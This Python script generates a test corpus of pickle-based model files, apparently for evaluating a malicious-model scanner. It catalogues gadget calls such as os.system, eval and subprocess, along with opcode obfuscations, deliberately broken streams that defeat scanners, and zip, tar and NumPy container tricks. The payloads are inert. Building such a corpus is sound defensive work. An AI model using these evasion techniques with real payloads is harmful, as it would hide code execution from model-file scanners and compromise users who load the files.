"""Writes artefacts of every published way to hide a call in a model file: malicious.py FOLDER.

Names begin with `bad-` (code runs on load) or `risk-` (needs a flag, a vulnerable parser or a careless user). The
payloads do nothing: `true`, a canary name, an empty string. Standard library only.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import pathlib
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib

OUT = pathlib.Path(sys.argv[1])
CANARY = "BARTIZAN_CANARY"

GADGETS = """os:system posix:system nt:system os:popen os:execvp os:remove os:putenv subprocess:Popen subprocess:check_output
subprocess:run subprocess:getoutput builtins:eval builtins:exec builtins:compile builtins:open builtins:__import__
builtins:breakpoint builtins:print __builtin__:eval __builtin__:execfile runpy:_run_code runpy:run_path webbrowser:open
socket:create_connection socket:socket shutil:rmtree shutil:copyfile bdb:Bdb.run pdb:run pty:spawn pip:main
pip._internal:main pydoc:pipepager pydoc:locate venv:create timeit:timeit cProfile:run cProfile:runctx profile:run
profile:Profile.run profile:Profile.runctx trace:Trace.run trace:Trace.runctx doctest:debug_script ensurepip:_run_pip
idlelib.pyshell:ModifiedInterpreter.runcode idlelib.run:Executive.runcode idlelib.calltip:get_entity
idlelib.calltip:Calltip.fetch_tip idlelib.autocomplete:AutoComplete.get_entity idlelib.debugobj:ObjectTreeItem.SetText
lib2to3.pgen2.grammar:Grammar.loads lib2to3.pgen2.pgen:ParserGenerator.make_label code:InteractiveInterpreter.runcode
torch.utils.bottleneck.__main__:run_cprofile torch._dynamo.guards:GuardBuilder.get
torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression torch.jit.unsupported_tensor_ops:execWrapper
torch.utils._config_module:ConfigModule.load_config torch.utils.collect_env:run torch.serialization:load torch:load
torch.utils.data.datapipes.utils.decoder:basichandlers torch._inductor.codecache:compile_file torch.hub:load
torch.utils.cpp_extension:load_inline torch.distributed.rpc:rpc_sync pkgutil:resolve_name imaplib:IMAP4_stream
uuid:_get_command_stdout _osx_support:_read_output _aix_support:_read_cmd_output _pyrepl.pager:pipe_pager
test.support.script_helper:assert_python_ok ctypes:CDLL distutils.file_util:write_file
numpy.f2py.crackfortran:getlincoef numpy.testing._private.utils:runstring numpy:load numpy.lib.npyio:load
asyncio.unix_events:_UnixSubprocessTransport._start types:FunctionType marshal:loads importlib:import_module
importlib.util:find_spec logging:FileHandler logging.config:listen _io:FileIO io:open urllib.request:urlopen
urllib.request:urlretrieve http.client:HTTPSConnection multiprocessing.util:spawnv_passfds
mlflow.projects.backend.local:_run_entry_point pandas.io.parsers.readers:read_csv pandas:read_pickle joblib:load
dill:loads cloudpickle:loads gc:get_objects linecache:getlines platform:_syscmd_file smtplib:SMTP ftplib:FTP
socketserver:TCPServer xmlrpc.server:SimpleXMLRPCServer sqlite3:connect fileinput:input py_compile:compile tarfile:open
shelve:open _posixsubprocess:fork_exec site:addsitedir atexit:register _interpreters:run_string imp:load_source
pipes:Template zipimport:zipimporter codeop:compile_command setuptools._distutils.spawn:spawn
pandas.core.computation.eval:eval numexpr:evaluate sympy.core.sympify:sympify yaml:unsafe_load sys:settrace sys:exit
transformers.dynamic_module_utils:get_class_from_dynamic_module nltk.data:load IPython.utils.process:system
fabric.operations:local ssl:get_server_certificate commands:getoutput requests:get httpx:get aiohttp:ClientSession
builtins:setattr builtins:delattr builtins:globals builtins:vars keras.utils:get_file keras.saving:load_model
tensorflow:load_library cffi:FFI threading:Thread code:interact faulthandler:dump_traceback tempfile:mktemp
glob:glob numba.core.caching:IndexDataCacheFile scipy.io:loadmat sklearn.datasets:load_files
xml.etree.ElementTree:parse email.utils:getaddresses string:Formatter.format gettext:translation
optparse:OptionParser csv:reader wave:open pprint:pprint zoneinfo:ZoneInfo.from_file locale:setlocale
torch._C:_jit_get_operation matplotlib.pyplot:savefig PIL.Image:open cv2:imwrite h5py:File onnx:load
invoke:run sh:Command plumbum:local paramiko:SSHClient gradio:load uvicorn:run celery.bin.base:execute scrapy.cmdline:execute
django.core.management:execute_from_command_line ansible.cli:CLI.run salt.utils.process:run""".split()


def save(name: str, content: bytes) -> None:
    (OUT / name).write_bytes(content)


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def short(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def plain(module: str, name: str, argument: str = "true", protocol: int = 2) -> bytes:
    """One call in the way that protocol writes it."""
    if protocol == 0:
        return f"c{module}\n{name}\n(V{argument}\ntR.".encode()
    if protocol == 4:
        return b"\x80\x04" + short(module) + short(name) + b"\x93" + text(argument) + b"\x85R."
    return b"\x80\x02" + f"c{module}\n{name}\n".encode() + text(argument) + b"\x85R."


EVIL = plain("os", "system")


def gadgets() -> None:
    for index, gadget in enumerate(GADGETS):
        module, name = gadget.split(":")
        protocols = (4,) if "." in name else ((0, 2, 4)[index % 3], 4)
        for protocol in sorted(set(protocols)):
            save(f"bad-gadget-{index:03}-{protocol}.pkl", plain(module, name, "true", protocol))


def opcodes() -> dict[str, bytes]:
    """Ways of saying the same call."""
    system = b"cos\nsystem\n"
    return {
        "inst": b"(S'true'\nios\nsystem\n.",
        "obj": b"(" + system + b"S'true'\no.",
        "newobj": b"\x80\x02csubprocess\nPopen\n" + text("true") + b"\x85\x81.",
        "newobj-ex": b"\x80\x04" + short("subprocess") + short("Popen") + b"\x93" + text("true") + b"\x85}\x92.",
        "stack-global-binstring": b"\x80\x04U\x02osU\x06system\x93U\x04true\x85R.",
        "stack-global-string": b"\x80\x04S'os'\nS'system'\n\x93S'true'\n\x85R.",
        "stack-global-unicode-escape": b"\x80\x04V\\u006f\\u0073\nVs\\u0079stem\n\x93Vtrue\n\x85R.",
        "stack-global-string-escape": b"\x80\x04S'\\x6fs'\nS'sys\\x74em'\n\x93S'true'\n\x85R.",
        "stack-global-memo": b"\x80\x04"
        + short("system")
        + b"\x94"
        + short("os")
        + b"\x94h\x01h\x00\x93"
        + short("true")
        + b"\x85R.",
        "memo-mix": b"\x80\x04"
        + short("os")
        + b"q\x05"
        + short("system")
        + b"\x94"
        + b"0h\x05h\x01\x93"
        + short("true")
        + b"\x85R.",
        "memo-long": b"\x80\x04"
        + short("os")
        + b"r\xff\xff\x00\x00"
        + b"0"
        + short("system")
        + b"p7\n0"
        + b"j\xff\xff\x00\x00g7\n\x93"
        + short("true")
        + b"\x85R.",
        "memo-overwrite": b"\x80\x04"
        + short("math")
        + b"q\x000"
        + short("os")
        + b"q\x000"
        + b"h\x00"
        + short("system")
        + b"\x93"
        + short("true")
        + b"\x85R.",
        "dup": b"\x80\x04" + short("os") + b"2" + b"0" + short("system") + b"\x93" + short("true") + b"\x85R.",
        "popped": b"\x80\x02" + system + text("true") + b"\x85R0N.",
        "pop-mark": b"\x80\x02(" + system + text("true") + b"\x85R1N.",
        "in-dict": b"\x80\x02}(" + text("weights") + b"]" + text("init") + system + text("true") + b"\x85Ru.",
        "late-proto": system + b"\x80\x02" + text("true") + b"\x85R.",
        "many-protos": b"\x80\x02\x80\x03\x80\x04" + EVIL[2:],
        "frames": b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00" + plain("os", "system", "true", 4)[2:],
        "frame-too-long": b"\x80\x04\x95\xff\xff\xff\x00\x00\x00\x00\x00" + plain("os", "system", "true", 4)[2:],
        "second-stream": pickle.dumps({"w": [1, 2]}) + EVIL,
        "third-stream": pickle.dumps(1) + pickle.dumps("x") + EVIL,
        "long-text-before": b"\x80\x02" + text("x" * 100_000) + b"0" + EVIL[2:],
        "legacy-magic-reduce": b"\x80\x02cbuiltins\neval\n" + text("0x1950a86a20f9469cfc6c") + b"\x85R.",
        "compat-name": b"\x80\x02c__builtin__\nexecfile\n" + text("/dev/null") + b"\x85R.",
        "compat-module": b"\x80\x02ccommands\ngetoutput\n" + text("true") + b"\x85R.",
        "submodule": b"\x80\x02casyncio.unix_events\n_UnixSubprocessTransport\n)\x81.",
        "map": b"\x80\x02cbuiltins\nlist\ncbuiltins\nmap\n" + system + b"]" + text("true") + b"a\x86R\x85R.",
        "partial": b"\x80\x02cfunctools\npartial\n" + system + text("true") + b"\x86R)R.",
        "getattr": b"\x80\x04cbuiltins\ngetattr\ncbuiltins\n__import__\n"
        + text("os")
        + b"\x85R"
        + text("system")
        + b"\x86R"
        + text("true")
        + b"\x85R.",
        "getattr-dunder": b"\x80\x02cbuiltins\ngetattr\nccollections\nOrderedDict\n" + text("__reduce__") + b"\x86R.",
        "getattr-call": b"\x80\x02cbuiltins\ngetattr\ncnumpy\nndarray\n"
        + text("tofile")
        + b"\x86R"
        + text("/tmp/x")
        + b"\x85R.",
        "methodcaller": b"\x80\x02coperator\nmethodcaller\n"
        + text("system")
        + text("true")
        + b"\x86Rccollections\nOrderedDict\n\x85R.",
        "attrgetter": b"\x80\x02coperator\nattrgetter\n" + text("__globals__") + b"\x85R.",
        "attrgetter-call": b"\x80\x02coperator\nattrgetter\n"
        + text("sys.modules")
        + b"\x85Rclogging\ngetLogger\n\x85R.",
        "computed-name": b"\x80\x04"
        + short("os")
        + b"cbuiltins\nstr\n"
        + text("system")
        + b"\x85R\x93"
        + text("true")
        + b"\x85R.",
        "computed-join": b"\x80\x04cbuiltins\ngetattr\n"
        + text("")
        + text("join")
        + b"\x86R]"
        + text("o")
        + b"a"
        + text("s")
        + b"a\x85R"
        + text("system")
        + b"\x93.",
        "build-function": b"\x80\x02cnumpy\nclip\n}" + text("__code__") + b"Nsb.",
        "build-module-class": b"\x80\x02ccollections\nOrderedDict\n}" + text("__setitem__") + b"cbuiltins\nlen\nsb.",
        "setitem-global": b"\x80\x02csys\nmodules\n" + text("numpy") + b"cos\nsystem\ns.",
        "setitem-dispatch": b"\x80\x02ccopyreg\ndispatch_table\nK\x01K\x02s.",
        "ext1": b"\x80\x02\x82\x01.",
        "ext4": b"\x80\x02\x84\x01\x02\x03\x04)R.",
        "reduce-result": b"\x80\x02cfunctools\npartial\n" + b"cbuiltins\neval\n\x85R" + text("1") + b"\x85R.",
        "starmap": b"\x80\x02cbuiltins\nlist\ncitertools\nstarmap\ncos\nsystem\n]" + text("true") + b"\x85a\x86R\x85R.",
        "defaultdict": b"\x80\x02ccollections\ndefaultdict\ncos\ngetpid\n\x85R.",
        "reconstructor": b"\x80\x02ccopyreg\n_reconstructor\ncsubprocess\nPopen\ncbuiltins\nobject\nN\x87R.",
        "ufunc-reconstruct": b"\x80\x02cnumpy.core\n_ufunc_reconstruct\n"
        + text("os")
        + text("system")
        + b"\x86R"
        + text("true")
        + b"\x85R.",
        "new-index": b"\x80\x02cpandas.core.indexes.base\n_new_Index\ncsubprocess\nPopen\n}"
        + text("args")
        + text("true")
        + b"s\x86R.",
        "rebuild-from-type": b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\ncbuiltins\nobject\n"
        + text("true")
        + b"\x85NtR.",
        "sleep": b"\x80\x02ctime\nsleep\nK\x00\x85R.",
        "load-from-bytes": b"\x80\x02ctorch.storage\n_load_from_bytes\nB"
        + struct.pack("<I", len(EVIL))
        + EVIL
        + b"\x85R.",
        "load-from-encoded": b"\x80\x02ctorch.storage\n_load_from_bytes\nc_codecs\nencode\n"
        + text(EVIL.decode("latin-1"))
        + text("latin1")
        + b"\x86R\x85R.",
        "loads-base64": b"\x80\x02cpickle\nloads\ncbase64\nb64decode\n"
        + text(base64.b64encode(EVIL).decode())
        + b"\x85R\x85R.",
        "nested-bytes": pickle.dumps({"payload": EVIL + b" " * 20}, 4),
        "nested-twice": pickle.dumps({"payload": pickle.dumps({"inner": EVIL + b" " * 20}, 4)}, 4),
        "text-start-list": b"(lp0\n" + b"cos\nsystem\np1\n(S'true'\np2\ntp3\nRp4\na.",
        "text-start-dict": b"(dp0\nS'k'\np1\ncos\nsystem\np2\n(S'true'\ntR\ns.",
    }


WALKS = ["sklearn.utils:os.system", "torch.serialization:os.system", "numpy:sys.modules", "random:_os.system", "collections:_sys.exit", "logging:os.popen",
         "torch.nn.modules.linear:math.__loader__", "pandas.core.frame:sys.exit", "argparse:_os.system", "decimal:_sys.exit",
         "sklearn.base:__builtins__", "torch:_utils.sys.modules", "numpy.core._internal:ctypes.CDLL", "xgboost.core:ctypes.CDLL",
         "lightgbm.basic:subprocess.run", "joblib.numpy_pickle:pickle.loads", "torch._utils:importlib.import_module", "scipy.sparse._csr:np.load",
         "builtins:object.__subclasses__", "collections:OrderedDict.__init__.__globals__", "uuid:os.system", "re:_compiler.__loader__", "types:sys.exit", "functools:_thread.start_new_thread",
         "torch.storage:io.open", "numpy.random._pickle:__builtins__"]  # fmt: skip


def broken() -> dict[str, bytes]:
    """The payload runs, then the stream ends in an error that stops scanners."""
    call = EVIL[:-1]
    return {
        "no-stop": call, "junk-opcode": call + b"\xff\xfe", "bad-proto": call + b"\x80\x63.", "underflow": call + b"00000.", "bad-get": call + b"h\xee.",
        "bad-length": call + b"X\xff\xff\xff\x7fx", "bad-int": call + b"Iabc\n.", "bad-long": call + b"\x8b\xff\xff\xff\xff.", "bad-utf8": call + b"X\x02\x00\x00\x00\xff\xfe.",
        "bad-string": call + b"Sxyz\n.", "bad-float": call + b"Fnope\n.", "no-mark": call + b"t.", "bad-global": call + b"cnot_a_module\nx\n.", "bad-global-chars": call + b"c\xff\xff\nx\n.",
        "huge-memo": call + b"r\xff\xff\xff\xffN.", "negative-put": call + b"p-1\n.", "truncated-text": call + b"V", "neg-bytes": call + b"B\xff\xff\xff\xff", "empty-build": call + b"b.",
        "stack-global-int": call + b"K\x01K\x02\x93.",
    }  # fmt: skip


def torch_zip(
    member: bytes, folder: str = "archive", method: int = zipfile.ZIP_STORED, extra: dict[str, bytes] | None = None
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        file.writestr(f"{folder}/data.pkl", member)
        for name, content in (extra or {}).items():
            file.writestr(f"{folder}/{name}", content)
        file.writestr(f"{folder}/version", b"3\n")
        file.writestr(f"{folder}/data/0", b"\0" * 64)
    return out.getvalue()


def header_patch(archive: bytes, local: dict[int, bytes], central: dict[int, bytes]) -> bytes:
    """The archive with bytes of the first local and central header replaced."""
    raw = bytearray(archive)
    for start, patches in ((0, local), (archive.index(b"PK\x01\x02"), central)):
        for offset, value in patches.items():
            raw[start + offset : start + offset + len(value)] = value
    return bytes(raw)


def numpy_file(body: bytes, descr: str = "'|O'") -> bytes:
    head = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    head += b" " * (63 - (len(head) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + body


def tar_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        for name, content in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            file.addfile(entry, io.BytesIO(content))
    return out.getvalue()


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return out.getvalue()


def homes() -> dict[str, bytes]:
    """Where the same pickle may lie."""
    png = base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    )
    legacy = b"".join(pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
    zipped = torch_zip(EVIL)
    double = io.BytesIO()
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(double, "w") as file:
        warnings.simplefilter("ignore")
        file.writestr("archive/data.pkl", EVIL)
        file.writestr("archive/data.pkl", pickle.dumps({}))
        file.writestr("archive/version", b"3\n")
    double_last = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(double_last, "w") as file:
        warnings.simplefilter("ignore")
        file.writestr("archive/data.pkl", pickle.dumps({}))
        file.writestr("archive/data.pkl", EVIL)
    innocent = torch_zip(pickle.dumps({}))
    lone = zip_of({"archive/data.pkl": EVIL})
    stray = lone[: lone.index(b"PK\x01\x02")] + b""
    shifted = _with_front(innocent, stray)
    crc = header_patch(zipped, {14: b"\xde\xad\xbe\xef"}, {16: b"\xde\xad\xbe\xef"})
    return {
        "torch.pt": zipped, "torch.bin": zipped, "torch-deflated.pt": torch_zip(EVIL, method=zipfile.ZIP_DEFLATED), "torch-other-folder.pt": torch_zip(EVIL, "x"),
        "torch-constants.pt": torch_zip(pickle.dumps({}), extra={"constants.pkl": EVIL}), "torch-extra-member.pt": torch_zip(pickle.dumps({}), extra={"extra/notes": EVIL}),
        "torch-in-data.pt": torch_zip(pickle.dumps({}), extra={"data/1": EVIL}), "torch-crc.pt": crc,
        "torch-flag-encrypted.pt": header_patch(zipped, {6: b"\x01\x00"}, {8: b"\x01\x00"}), "torch-flag-local.pt": header_patch(zipped, {6: b"\x01\x00"}, {}), "torch-flag-central.pt": header_patch(zipped, {}, {8: b"\x01\x08"}),
        "torch-name-mismatch.pt": header_patch(zipped, {30: b"archive/datb.txt"}, {}), "torch-name-central.pt": header_patch(zipped, {}, {46: b"archive/data.txt"}),
        "torch-size-zero.pt": header_patch(zipped, {22: b"\0\0\0\0"}, {}), "torch-method.pt": header_patch(zipped, {8: b"\x09\x00"}, {10: b"\x09\x00"}), "torch-double.pt": double.getvalue(), "torch-double-last.pt": double_last.getvalue(),
        "torch-stray.pt": shifted, "torch-no-index.pt": zipped[: zipped.index(b"PK\x01\x02")], "torch-prefixed.pt": b"#!/bin/sh\nexit 0\n" + zipped, "torch-suffixed.pt": zipped + b"\n" * 40,
        "png-zip.png": png + zipped, "png-zip.pt": png + zipped, "legacy.pt": legacy + EVIL + pickle.dumps([]), "legacy-first.pt": EVIL + legacy, "torch-tar.tar": tar_of({"storages": EVIL, "tensors": pickle.dumps(0), "pickle": pickle.dumps({})}),
        "array.npy": numpy_file(EVIL), "array-structured.npy": numpy_file(EVIL, "[('a', '<i4'), ('b', '|O')]"), "arrays.npz": zip_of({"a.npy": numpy_file(EVIL)}), "npz-pickle.npz": zip_of({"a.npy": EVIL}), "npz-mixed.npz": zip_of({"a.npy": numpy_file(b"\0" * 8, "'<f8'"), "b.npy": numpy_file(EVIL)}),
        "zlib.joblib": zlib.compress(EVIL), "gzip.joblib": gzip.compress(EVIL), "bz2.joblib": bz2.compress(EVIL), "xz.joblib": lzma.compress(EVIL), "lzma.joblib": lzma.compress(EVIL, lzma.FORMAT_ALONE), "model.pkl.gz": gzip.compress(EVIL),
        "named.safetensors": EVIL, "named.txt": EVIL, "named.json": plain("os", "system", "true", 0), "named.png": EVIL, "named.onnx": plain("os", "system", "true", 4), "named.h5": EVIL, "named.gguf": EVIL, "named": EVIL, "named.csv": plain("posix", "system", "true", 0), "config.yaml": plain("os", "system", "true", 0),
        "model.ckpt": EVIL, "model.pdparams": EVIL, "model.dat": EVIL, "model.mar": zip_of({"MAR-INF/MANIFEST.json": b"{}", "model.pt": EVIL}), "model.nemo": tar_of({"model_config.yaml": b"target: nemo.X\n", "model_weights.ckpt": zipped}),
        "bundle.zip": zip_of({"readme.txt": b"hello", "a/model.pkl": EVIL}), "bundle-txt.zip": zip_of({"readme.txt": EVIL}), "zip-in-zip.zip": zip_of({"inner.zip": zip_of({"model.pkl": EVIL})}), "tar-gz.tar.gz": gzip.compress(tar_of({"m.pkl": EVIL})), "torch-in-zip.zip": zip_of({"m.pt": zipped}), "gz-gz.pkl.gz": gzip.compress(gzip.compress(EVIL)),
        "keras-pickle.keras": zip_of({"config.json": b"{}", "metadata.json": b"{}", "assets/vocab.pkl": EVIL}), "skops-pickle.skops": EVIL, "two-layers.pt": torch_zip(pickle.dumps({"blob": zipped})), "npy-in-torch.pt": torch_zip(pickle.dumps({}), extra={"arr": numpy_file(EVIL)}),
    }  # fmt: skip


def _with_front(archive: bytes, front: bytes) -> bytes:
    """The archive behind other bytes, its offsets corrected, so that readers of the index never see the front."""
    raw = bytearray(front + archive)
    at = raw.rindex(b"PK\x05\x06")
    start = int.from_bytes(raw[at + 16 : at + 20], "little") + len(front)
    raw[at + 16 : at + 20] = start.to_bytes(4, "little")
    spot = start
    while raw[spot : spot + 4] == b"PK\x01\x02":
        name, extra, comment = struct.unpack_from("<3H", raw, spot + 28)
        offset = int.from_bytes(raw[spot + 42 : spot + 46], "little") + len(front)
        raw[spot + 42 : spot + 46] = offset.to_bytes(4, "little")
        spot += 46 + name + extra + comment
    return bytes(raw)


def joblib_array(tail: bytes) -> bytes:
    """A stream as joblib writes it: a wrapper, raw numbers in the middle, and more opcodes behind them."""
    head = (
        b"\x80\x04"
        + short("joblib.numpy_pickle")
        + short("NumpyArrayWrapper")
        + b"\x93)\x81}("
        + text("subclass")
        + b"cnumpy\nndarray\n"
        + text("shape")
        + b"K\x04\x85"
    )
    head += (
        text("order")
        + text("C")
        + text("dtype")
        + b"cnumpy\ndtype\n"
        + text("f8")
        + b"\x89\x88\x87R"
        + text("allow_mmap")
        + b"\x88ub"
    )
    return b"".join([head[:2], b"]", head[2:], b"." * 32, b"a", tail])


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    gadgets()
    for name, content in opcodes().items():
        save(f"bad-form-{name}.pkl", content)
    for index, walk in enumerate(WALKS):
        module, name = walk.split(":")
        save(f"bad-walk-{index:02}.pkl", plain(module, name, "true", 4))
    for name, content in broken().items():
        save(f"bad-broken-{name}.pkl", content)
    for name, content in homes().items():
        save(f"bad-home-{name}", content)
    save("bad-form-joblib-after-array.joblib", joblib_array(EVIL[2:-1] + b"a."))
    save("bad-form-joblib-packed.joblib", zlib.compress(joblib_array(EVIL[2:-1] + b"a.")))
    from others import write_others

    write_others(OUT, save, EVIL)
    print(len(list(OUT.iterdir())), "files")


if __name__ == "__main__":
    main()
